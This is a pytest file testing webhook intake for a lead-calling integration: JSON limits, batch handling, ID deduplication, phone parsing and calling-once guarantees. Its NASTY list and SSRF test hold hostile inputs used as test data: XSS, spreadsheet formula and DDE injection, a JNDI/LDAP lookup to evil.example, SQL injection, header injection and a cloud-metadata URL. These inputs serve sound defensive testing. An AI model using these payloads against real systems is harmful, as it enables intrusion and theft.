"""Rows J and N of the catalogue of faults, from the endpoint to the decision. Each test is named by its row.

What the readers alone make of such input is in tests/json_rows.py and tests/data/phone_numbers.json, row by row; here
the same rows come in as webhooks, and those that no reader can judge alone.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from integration.cli.terminal import clean, csv_lines
from integration.dialers import PhoneAccount, Ticket
from integration.log import set_up_logging
from integration.model import Account, CallRequest, LeadState, Outcome, OutcomeKind, Reason, Tree
from integration.rules import RenderedRequest, Rules, WritebackFacts, decide, load_rules, render_writeback
from tests.crms.rig import Office, rules_of
from tests.json_rows import ACCEPTED_JSON, REFUSED_JSON

NUMBERS = json.loads((Path(__file__).parents[1] / "data/phone_numbers.json").read_text("utf-8"), parse_float=Decimal)
US = "+12125550123"
CALLED = ("rehearsed", "dialing_off")
SOURCES = """\
  crm:
    verify: {scheme: hmac, secret: "${TEXT}"}
    fields: {phone: [Mobile, Phone], name: Name, odd: __class__.__name__, dotted: '"a.b"'}
    only: {type: [lead.created, null]}
    event_id: event
    record: lead
    id: Id
    write_back:
      request: POST https://crm.example.com/leads/{{ lead.id }}
      headers: {X-Name: "{{ lead.name }}"}
      json: {name: "{{ lead.name }}", id: "{{ lead.id }}"}
  batch:
    verify: {scheme: hmac, secret: "${TEXT}"}
    fields: {phone: Phone}
    items: "*"
    event_id: Event
    id: Id
"""

# Rows that are held where freshness, the calling hours, the do-not-call list and limits are.
HELD = {
    "J21": (
        "house/test_judge.py::test_an_old_lead_is_held_for_a_person",
        "house/test_judge.py::test_a_date_that_cannot_be_believed_counts_from_receipt_and_says_so",
        "pipeline/test_verdicts.py::test_a_refusal_is_the_leads_result_and_the_crm_hears_it",
        "pipeline/test_verdicts.py::test_a_lead_that_waits_for_the_dialer_is_judged_anew_at_each_attempt",
    ),
    "N21": (
        "ledger/test_do_not_call.py::test_a_number_on_the_list_is_not_rung",
        "ledger/test_do_not_call.py::test_a_number_that_comes_onto_the_list_while_its_lead_waits_is_not_rung",
    ),
    "N22": (
        "ledger/test_rates.py::test_of_many_at_once_exactly_as_many_as_allowed_are_called",
        "ledger/test_rates.py::test_no_window_ever_holds_more_and_the_rate_is_used",
        "many/test_house.py::test_a_limit_holds_over_two_workers",
    ),
    "N23": ("house/test_windows.py::test_every_candidate_zone_must_be_open",),
    "N24": (
        "house/test_windows_properties.py::test_around_every_change_of_clocks_the_answer_is_the_wall_clocks",
        "house/test_windows.py::test_a_window_that_does_not_exist_on_that_day_is_left_out",
    ),
    "N25": (
        "house/test_weeks.py::test_a_window_over_midnight_goes_on_into_the_next_day",
        "house/test_weeks.py::test_what_is_no_window_is_told",
        "rules/test_rules_hours.py::test_a_week_that_is_open_on_no_day_is_warned_of",
    ),
}


@pytest.fixture(scope="module")
def rules() -> Rules:
    return rules_of(SOURCES.replace(", null]", "]"))


@pytest.fixture
def desk(office: Office, rules: Rules) -> Office:
    return Office(office.ledger, rules)


def message(event: object = "e-1", kind: object = "lead.created", **record: object) -> bytes:
    return json.dumps({"type": kind, "event": event, "lead": {"Id": "1", "Phone": US, **record}}).encode()


def came_to(office: Office) -> list[tuple[str, str | None]]:
    return [(row["state"], row["reason"]) for row in office.leads()]


def post(office: Office, body: bytes, source: str = "crm") -> str:
    """The word of the answer."""
    answer = office.post(source, body)
    assert answer.status_code == 200
    assert isinstance(answer.json, dict)
    return str(answer.json["status"])


# ---- JSON ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "raw", "says"), REFUSED_JSON, ids=[f"{row[0]}-{i}" for i, row in enumerate(REFUSED_JSON)]
)
def test_json_that_would_fail_later_is_acknowledged_and_parked(desk: Office, row: str, raw: bytes, says: str) -> None:
    assert post(desk, raw) == "parked", row
    assert came_to(desk) == [("parked", "bad_body")]
    assert desk.woken == []
    with desk.ledger.database.read() as tx:
        kept = tx.one("SELECT body FROM delivery")
    assert kept is not None
    assert bytes(kept["body"]) == raw  # a person sees what came, whatever it was


@pytest.mark.parametrize(
    ("row", "raw", "tree"), ACCEPTED_JSON, ids=[f"{row[0]}-{i}" for i, row in enumerate(ACCEPTED_JSON)]
)
def test_json_that_can_be_read_and_is_no_lead_is_no_trouble(desk: Office, row: str, raw: bytes, tree: Tree) -> None:
    assert post(desk, raw) in {"accepted", "ignored"}, row
    desk.decide_all()
    assert set(came_to(desk)) <= {("parked", "no_record")}


@pytest.mark.parametrize("size", [1024 * 1024 + 1, 10_000_000])
def test_j9_a_body_over_a_megabyte_is_refused(desk: Office, size: int) -> None:
    answer = desk.post("crm", b"[" + b"{}," * (size // 3) + b"{}]")
    assert (answer.status_code, answer.json) == (413, {"error": "The body is too large."})
    assert desk.leads() == []


def items(count: int, start: int = 0) -> list[dict[str, object]]:
    return [{"Event": f"e-{n}", "Id": str(n), "Phone": f"+1212555{n:04}"} for n in range(start, start + count)]


@pytest.mark.parametrize(
    ("count", "word", "leads"), [(1000, "accepted", 1000), (1001, "parked", 1), (10_000, "parked", 1)]
)
def test_j10_a_thousand_events_are_taken_at_once_and_more_are_parked(
    desk: Office, count: int, word: str, leads: int
) -> None:
    assert post(desk, json.dumps(items(count)).encode(), "batch") == word
    with desk.ledger.database.read() as tx:
        stored = tx.one("SELECT COUNT(*) AS leads, COUNT(DISTINCT received_at) AS instants FROM lead")
    assert stored is not None
    assert (stored["leads"], stored["instants"]) == (leads, 1)


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        ({"Phone": "n/a"}, "bad_phone"),
        ({"Phone": None}, "no_phone"),
        ({"Phone": {}}, "no_phone"),
        ({"Phone": {"number": US}}, "bad_phone"),
        ({"Phone": "911"}, "emergency_number"),
        ({"Id": None}, "no_record_id"),
        ("no event", "no_record_id"),
        (None, "no_record"),
        ([], "no_record"),
        (7, "no_record_id"),
    ],
)
def test_j11_one_bad_event_of_a_hundred_stands_alone(desk: Office, bad: object, reason: str) -> None:
    batch: list[object] = [*items(100)]
    batch[40] = {**items(1, 40)[0], **bad} if isinstance(bad, dict) else bad
    body = json.dumps(batch).encode()
    assert post(desk, body, "batch") == "accepted"
    desk.decide_all()
    found = {row["item"]: (row["state"], row["reason"]) for row in desk.leads()}
    assert found.pop(40)[1] == reason
    assert set(found.values()) == {CALLED}
    assert len(found) == 99
    assert post(desk, body, "batch") == "duplicate"
    assert len(desk.leads()) == 100


def test_j12_the_same_event_twice_in_one_list_is_one_lead(desk: Office) -> None:
    post(desk, json.dumps(items(2) + items(2)).encode(), "batch")
    assert len(desk.leads()) == 2


@pytest.mark.parametrize("raw", [b'"text"', b"42", b"null", b"true"])
@pytest.mark.parametrize("source", ["crm", "batch"])
def test_j13_a_single_value_is_parked(desk: Office, source: str, raw: bytes) -> None:
    assert post(desk, raw, source) == "parked"


@pytest.mark.parametrize(
    ("source", "raw", "word"), [("crm", b"[]", "accepted"), ("crm", b"{}", "ignored"), ("batch", b"[]", "ignored")]
)
def test_j13_an_empty_list_or_object_is_no_trouble(desk: Office, source: str, raw: bytes, word: str) -> None:
    assert post(desk, raw, source) == word
    desk.decide_all()
    assert set(came_to(desk)) <= {("parked", "no_record")}


@pytest.mark.parametrize("key", ["__proto__", "__class__", "constructor", "$ref", "a.b", "", "k" * 10_000])
def test_j15_any_key_is_plain_data(desk: Office, key: str) -> None:
    assert post(desk, message(**{key: {"__name__": "data", "x": 1}})) == "accepted"
    desk.decide_all()
    (lead,) = desk.leads()
    fields = json.loads(lead["fields"])
    assert fields.get("odd") == ("data" if key == "__class__" else None)  # never the name of a class of ours
    assert lead["state"] == "rehearsed"


@pytest.mark.parametrize(
    ("value", "state", "reason", "to"),
    [
        (12125550123, "parked", "no_region", None),
        (2125550123, "parked", "no_region", None),
        (12125550123.5, "parked", "bad_phone", None),
        (True, "parked", "bad_phone", None),
        (["n/a", US], *CALLED, US),
        ({"number": US}, "parked", "bad_phone", None),
        (None, "parked", "no_phone", None),
    ],
)
def test_j16_a_phone_of_another_type(office: Office, value: object, state: str, reason: str, to: str | None) -> None:
    text = "accounts: {main: {id: acc-1}}\nphones: {may_call: [US]}\nrules: [{name: Everyone, call: main}]\n"
    rules = load_rules(
        f"{text}sources:\n  crm: {{verify: {{scheme: hmac, secret: "
        "only-this-test-and-the-sender-know-it}, fields: {phone: Phone}, id: Id}\n",
        name="rules.yaml",
        environ={},
    )
    desk = Office(office.ledger, rules)
    post(desk, json.dumps({"Id": "1", "Phone": value}).encode())
    desk.decide_all()
    assert [(row["state"], row["reason"], row["to_number"]) for row in desk.leads()] == [(state, reason, to)]


NASTY = [
    "n" * 100_000,
    "\U0001f600 é",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "{{7*7}} {{ lead.id }} ${jndi:ldap://evil.example/x}",
    "' OR 1=1--",
    "'); DROP TABLE lead;--",
    "%s%n %(x)s {0}",
    "a\r\nX-Evil: 1",
    "\x1b[2J\u202e\u200b",
]


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    lines = io.StringIO()
    set_up_logging("info", lines)
    yield lines
    set_up_logging("info", io.StringIO())


@pytest.mark.parametrize("name", NASTY, ids=range(len(NASTY)))
def test_j17_a_nasty_name_is_data_and_inert_everywhere(desk: Office, log: io.StringIO, name: str) -> None:
    assert post(desk, message(Name=name, Id=name[:200])) == "accepted"
    desk.decide_all()
    (lead,) = desk.leads()
    assert lead["state"] == "rehearsed"
    assert json.loads(lead["fields"])["name"] == name  # as it came
    facts = WritebackFacts(
        record_id=lead["record_id"],
        result=LeadState.CALLED,
        reason_text="",
        call_id="c",
        call_status=None,
        account=None,
        fields=json.loads(lead["fields"]),
        event={},
    )
    plan = desk.rules.sources["crm"].write_back
    assert plan is not None
    made = render_writeback(plan, facts)
    if isinstance(made, RenderedRequest):  # else it is parked: a header cannot carry it
        assert json.loads(made.body or b"")["name"] == name
        assert made.url.startswith("https://crm.example.com/leads/")
        assert made.url.isascii()
        assert not set("\r\n") & set("".join(value for _, value in dict(made.headers).items()))
    (cell,) = list(csv.reader(io.StringIO("".join(csv_lines(["a"], [[name]])), newline="")))[1]
    assert not cell.startswith(("=", "+", "-", "@"))
    assert clean(name).isprintable()
    assert all(line.startswith("at=") for line in log.getvalue().splitlines())


@pytest.mark.parametrize("value", [-1, 0, 2**63, 2**64, 10**30, "1", "é", "x" * 400])
def test_j18_any_id_is_text(desk: Office, value: object) -> None:
    assert post(desk, message(event=value, Id=value)) == "accepted"
    desk.decide_all()
    (lead,) = desk.leads()
    assert (lead["record_id"], lead["dedupe_key"]) == (str(value), f"id:{value}")


@pytest.mark.parametrize("other", ["1", " 1 ", 1])
def test_j18_a_number_and_its_text_are_one_id(desk: Office, other: object) -> None:
    post(desk, message(event=1))
    assert post(desk, message(event=other, Name="another")) == "duplicate"


@pytest.mark.parametrize("other", ["01", "1.0", "1 1", "one"])
def test_j18_what_is_written_otherwise_is_another_id(desk: Office, other: object) -> None:
    post(desk, message(event=1))
    assert post(desk, message(event=other)) == "accepted"


@pytest.mark.parametrize("nothing", [None, "", " \t", False, [], {}])
@pytest.mark.parametrize(
    ("field", "reason"),
    [("Phone", "no_phone"), ("Id", "no_record_id"), ("Name", "dialing_off"), ("event", "dialing_off")],
)
def test_j19_what_is_missing_is_named(desk: Office, field: str, reason: str, nothing: object) -> None:
    body = message(event=nothing) if field == "event" else message(**{field: nothing})
    assert post(desk, body) in {"accepted", "parked"}
    desk.decide_all()
    (lead,) = desk.leads()
    assert lead["reason"] == reason
    if field == "event":
        assert lead["dedupe_key"].startswith("sha256:")  # known again by its body


@pytest.mark.parametrize(
    "kind", ["lead.deleted", "lead.merged", "contact.privacyDeletion", "ping", "lead.updated", None, "", 7, ["x"]]
)
def test_j20_another_kind_of_event_is_ignored_and_kept(desk: Office, kind: object) -> None:
    assert post(desk, message(kind=kind)) == "ignored"
    assert desk.leads() == []


class CountingDialer:
    """Places every call."""

    def __init__(self) -> None:
        self.rung: list[str] = []

    def ticket(self, account: Account) -> Ticket:
        return Ticket(account, "acc-1", "a-token")

    prepare = ticket

    def place(self, ticket: Ticket, call: CallRequest, send_by: float) -> Outcome:
        self.rung.append(call.to)
        return Outcome(OutcomeKind.PLACED, Reason.PLACED, "ok", f"call-{len(self.rung)}", "initiated", 200)

    def accounts(self) -> Sequence[PhoneAccount]:
        return []

    def forget(self) -> None:
        pass


@pytest.mark.parametrize(
    "bodies",
    [
        [message(kind="lead.updated"), message()],
        [message("e-1", Id="1"), message("e-2", Id="2")],
        [message("e-1", Id="1"), message("e-2", kind="lead.merged", Id="1"), message("e-3", Id="1")],
    ],
    ids=["updated before created", "created twice with other ids", "merged and created again"],
)
def test_j22_a_person_is_rung_once_whatever_order_events_come_in(desk: Office, bodies: list[bytes]) -> None:
    dialer = CountingDialer()
    for body in bodies:
        post(desk, body)
    desk.decide_all(dialer)
    assert dialer.rung == [US]
    assert set(came_to(desk)) <= {("called", "placed"), ("blocked", "cooldown")}


def test_j23_an_event_id_of_hubspot_that_is_used_again_is_another_lead(office: Office) -> None:
    event: dict[str, Any] = {
        "eventId": 100,
        "portalId": 62515,
        "subscriptionType": "contact.creation",
        "objectId": 1,
        "occurredAt": 1564113600000,
    }
    for changed in ({}, {"objectId": 2}, {"portalId": 7}, {"occurredAt": 1564113600001}, {"eventId": 101}):
        office.post("hubspot", json.dumps([event | changed]).encode())
    assert len(office.leads()) == 4  # the last differs in nothing but the id that may repeat


@pytest.mark.parametrize(
    ("one", "other", "word"), [("caf\u00e9", "cafe\u0301", "duplicate"), ("ABC", "\uff21\uff22\uff23", "accepted")]
)
def test_j24_an_accent_written_in_two_ways_is_one_id_and_stays_as_it_came(
    desk: Office, one: str, other: str, word: str
) -> None:
    post(desk, message(one, Name=one))
    assert post(desk, message(other, Name=other)) == word
    with desk.ledger.database.read() as tx:
        kept = [bytes(row["body"]) for row in tx.all("SELECT body FROM delivery ORDER BY id")]
    assert [json.loads(body)["lead"]["Name"] for body in kept] == [one, other]


@pytest.mark.parametrize("key", ["callback_url", "url", "request", "write_back", "dialer", "host"])
def test_j25_an_address_in_the_message_leads_nowhere(desk: Office, key: str) -> None:
    post(desk, message(**{key: "http://169.254.169.254/x"}))
    desk.decide_all()
    (lead,) = desk.leads()
    plan = desk.rules.sources["crm"].write_back
    assert plan is not None
    made = render_writeback(
        plan,
        WritebackFacts(
            record_id=lead["record_id"],
            result=LeadState.CALLED,
            reason_text="",
            call_id="c",
            call_status=None,
            account=None,
            fields=json.loads(lead["fields"]),
            event=json.loads(message(**{key: "http://169.254.169.254/x"})),
        ),
    )
    assert isinstance(made, RenderedRequest)
    assert made.url == "https://crm.example.com/leads/1"


# ---- numbers ---------------------------------------------------------------------------------------


def phone_rules(name: str) -> Rules:
    policy = NUMBERS["policies"][name]
    own = [f'own{i}: {{id: acc-{i}, caller_id: "{one}"}}' for i, one in enumerate(policy.get("own_numbers", []))]
    phones = {key: value for key, value in policy.items() if key != "own_numbers"}
    return load_rules(
        f"accounts: {{{', '.join(['main: {id: acc-main}', *own])}}}\n"
        f"phones: {json.dumps(phones)}\n"
        "fields: {phone: Phone, country: Country}\n"
        "rules: [{name: Everyone, call: main}]\n"
        "sources: {crm: {verify: {scheme: hmac, secret: only-this-test-and-the-sender-know-it}, id: Id}}\n",
        name="rules.yaml",
        environ={},
    )


PHONE_RULES = {name: phone_rules(name) for name in NUMBERS["policies"]}


@pytest.mark.parametrize("row", NUMBERS["rows"], ids=[f"{row['row']}-{i}" for i, row in enumerate(NUMBERS["rows"])])
def test_the_rules_come_to_what_the_catalogue_says_of_each_number(row: dict[str, Any]) -> None:
    record = {"Id": "1", "Phone": row["value"], "Country": row.get("country")}
    decision = decide(PHONE_RULES[row.get("policy", "usual")], "crm", record)
    if "to" in row:
        assert (decision.kind, decision.to) == ("call", row["to"])
    elif isinstance(row["value"], list) and row["value"]:
        assert (decision.kind, decision.to) == ("call", *row["value"])  # a path to a list stands for its items
    else:
        parked = row["refused"] in {Reason.BAD_PHONE, Reason.NO_PHONE, Reason.NO_REGION}
        assert (decision.kind, decision.reason) == ("park" if parked else "block", row["refused"])


def test_n11_fifty_leads_with_one_number_are_one_call(desk: Office) -> None:
    dialer = CountingDialer()
    for n in range(50):
        post(desk, message(f"e-{n}", Id=str(n), Phone="(212) 555-0123" if n % 2 else US))
    desk.decide_all(dialer)
    assert dialer.rung == [US]
    assert sorted(came_to(desk)) == [("blocked", "cooldown")] * 49 + [("called", "placed")]


# ---- the catalogue as a whole ------------------------------------------------------------------------


def test_every_row_has_a_test_of_its_name() -> None:
    named = {row for row, *_ in [*REFUSED_JSON, *ACCEPTED_JSON]} | {row["row"] for row in NUMBERS["rows"]}
    named |= {name.split("_")[1].upper() for name in globals() if name.startswith(("test_j", "test_n"))}
    wanted = {f"J{n}" for n in range(1, 26)} | {f"N{n}" for n in range(1, 26)}
    assert wanted <= named | set(HELD)
    for place in (place for places in HELD.values() for place in places):
        file, _, name = place.partition("::")
        assert f"def {name}(" in (Path(__file__).parents[1] / file).read_text("utf-8"), place
